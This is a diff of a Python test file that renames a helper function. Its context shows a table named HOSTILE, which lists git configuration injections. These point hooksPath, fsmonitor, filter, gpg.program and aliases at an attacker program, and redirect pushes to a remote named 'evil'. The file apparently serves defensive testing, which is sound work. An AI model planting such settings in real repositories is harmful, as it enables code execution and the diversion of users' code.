@@ -123,17 +123,17 @@ HOSTILE: dict[str, Callable[[Place, Elsewhere], dict[str, str]]] = {
     "core.hooksPath": lambda p, e: {"core.hooksPath": str(hooks(p))},
     "core.fsmonitor": lambda p, e: {"core.fsmonitor": str(p.program)},
     "core.alternateRefsCommand": lambda p, e: {"core.alternateRefsCommand": str(p.program)},
-    "include.path": lambda p, e: {"include.path": included(p, PROXY.format(e.url))},
-    "includeIf": lambda p, e: {"includeIf.gitdir:/.path": included(p, PROXY.format(e.url))},
+    "include.path": lambda p, e: {"include.path": write_included(p, PROXY.format(e.url))},
+    "includeIf": lambda p, e: {"includeIf.gitdir:/.path": write_included(p, PROXY.format(e.url))},
     "filter": lambda p, e: {"filter.x.clean": str(p.program), "filter.x.process": str(p.program)},
     "push.gpgSign": lambda p, e: {"push.gpgSign": "true", "gpg.program": str(p.program)},
     "alias": lambda p, e: {f"alias.{verb}": f"!{p.program}" for verb in ("push", "fetch", "ls-remote")},
     "submodules": lambda p, e: {"push.recurseSubmodules": "on-demand", "fetch.recurseSubmodules": "true"},
     "worktreeConfig": lambda p, e: in_worktree(p, e),
     "includeIf hasconfig": lambda p, e: {
-        f"includeIf.hasconfig:remote.*.url:{p.server.url}/**.path": included(p, PROXY.format(e.url))
+        f"includeIf.hasconfig:remote.*.url:{p.server.url}/**.path": write_included(p, PROXY.format(e.url))
     },
-    "includeIf onbranch": lambda p, e: {"includeIf.onbranch:**.path": included(p, PROXY.format(e.url))},
+    "includeIf onbranch": lambda p, e: {"includeIf.onbranch:**.path": write_included(p, PROXY.format(e.url))},
     "remote.pushDefault": lambda p, e: {"remote.pushDefault": "evil", "remote.evil.url": f"{e.url}/x.git"},
     "branch.pushRemote": lambda p, e: {"branch.main.pushRemote": "evil", "remote.evil.url": f"{e.url}/x.git"},
     "remotes group": lambda p, e: {"remotes.origin": "evil", "remote.evil.url": f"{e.url}/x.git"},
@@ -168,7 +168,7 @@ def hooks(place: Place) -> Path:
     return folder
 
 
-def included(place: Place, text: str) -> str:
+def write_included(place: Place, text: str) -> str:
     file = place.directory / "included"
     file.write_text(text)
     return str(file)
